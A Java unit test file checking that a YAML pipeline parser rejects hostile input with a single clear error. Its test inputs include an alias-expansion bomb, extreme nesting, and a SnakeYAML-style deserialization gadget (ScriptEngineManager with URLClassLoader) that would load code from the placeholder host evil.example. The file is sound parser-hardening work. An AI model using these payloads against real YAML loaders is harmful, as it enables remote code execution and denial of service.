package io.sluice.yaml;

import static org.assertj.core.api.Assertions.assertThat;

import io.sluice.definition.ParsedPipeline;
import io.sluice.definition.PipelineParser;
import io.sluice.problem.Problem;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Input built to hurt a parser ends in one clear error, never in an exception, a hang or a loaded class. */
class HostileYamlTest {
    @TempDir
    Path dir;

    @Test
    void anAliasBombIsRefusedBeforeItExpands() {
        StringBuilder yaml = new StringBuilder("id: bomb\na: &a [x, x, x, x, x, x, x, x, x, x]\n");
        char previous = 'a';
        for (char c = 'b'; c <= 'k'; c++) {
            yaml.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 10; i++) {
                yaml.append(i == 0 ? "" : ", ").append('*').append(previous);
            }
            yaml.append("]\n");
            previous = c;
        }
        yaml.append("tasks: [{id: t, run: 'true'}]\n");

        ParsedPipeline parsed = new PipelineParser().parse(yaml.toString(), "p.yaml");

        assertThat(parsed.problems()).singleElement().extracting(Problem::message).asString()
                .contains("alias");
    }

    @Test
    void deepNestingStopsAtTheDepthLimitWithoutOverflowingTheStack() {
        String yaml = "id: deep\ntasks: " + "[".repeat(200_000) + "]".repeat(200_000) + "\n";

        ParsedPipeline parsed = new PipelineParser().parse(yaml, "p.yaml");

        assertThat(parsed.problems()).singleElement().extracting(Problem::message).asString()
                .contains("nested deeper than");
    }

    @Test
    void aHugeFileIsRefusedByItsSizeBeforeParsing() throws IOException {
        Path file = dir.resolve("pipeline.yaml");
        try (var out = Files.newBufferedWriter(file)) {
            out.write("id: big\ntasks:\n");
            for (int i = 0; i < 400_000; i++) {
                out.write("  - {id: t" + i + ", run: 'true'}\n");
            }
        }

        ParsedPipeline parsed = new PipelineParser().parse(file, "pipeline.yaml");

        assertThat(parsed.pipeline()).isEmpty();
        assertThat(parsed.problems()).singleElement().extracting(Problem::render).asString()
                .startsWith("pipeline.yaml:1:1: file is").contains("the limit is");
    }

    @Test
    void binaryGarbageIsNotText() throws IOException {
        byte[] garbage = new byte[4096];
        new Random(42).nextBytes(garbage);
        Path file = dir.resolve("pipeline.yaml");
        Files.write(file, garbage);

        ParsedPipeline parsed = new PipelineParser().parse(file, "pipeline.yaml");

        assertThat(parsed.problems()).singleElement().extracting(Problem::message).asString().contains("not UTF-8 text");
    }

    @Test
    void aNulByteInOtherwiseValidTextIsRefused() throws IOException {
        Path file = dir.resolve("pipeline.yaml");
        Files.write(file, "id: x\ntasks: [{id: a, run: \"tr\0ue\"}]\n".getBytes());

        ParsedPipeline parsed = new PipelineParser().parse(file, "pipeline.yaml");

        assertThat(parsed.problems()).singleElement().extracting(Problem::render).asString()
                .startsWith("pipeline.yaml:2:").contains("control character");
    }

    @Test
    void globalTagsAreRefusedWithoutLoadingAnyClass() {
        String yaml = "id: x\nexploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n"
                + "tasks: [{id: a, run: 'true'}]\n";

        ParsedPipeline parsed = new PipelineParser().parse(yaml, "p.yaml");

        assertThat(parsed.problems()).singleElement().extracting(Problem::render).asString()
                .isEqualTo("p.yaml:2:10: YAML tag 'tag:yaml.org,2002:javax.script.ScriptEngineManager' is not allowed:"
                        + " Sluice reads plain values, lists and mappings only");
    }

    @Test
    void brokenYamlSyntaxPointsAtTheProblem() {
        String yaml = "id: x\ntasks:\n  - id: a\n    run: \"unterminated\n";

        ParsedPipeline parsed = new PipelineParser().parse(yaml, "p.yaml");

        assertThat(parsed.problems()).singleElement().extracting(Problem::render).asString()
                .startsWith("p.yaml:").contains("YAML syntax error");
    }

    @Test
    void aSecondDocumentIsRefused() {
        ParsedPipeline parsed = new PipelineParser().parse("id: a\ntasks: [{id: t, run: x}]\n---\nid: b\n", "p.yaml");

        assertThat(parsed.problems()).singleElement().extracting(Problem::message).asString().contains("only one YAML document");
    }

    @Test
    void anEmptyFileSaysWhatAPipelineNeeds() {
        ParsedPipeline parsed = new PipelineParser().parse("", "p.yaml");

        assertThat(parsed.problems()).singleElement().extracting(Problem::message).asString().contains("empty");
    }
}
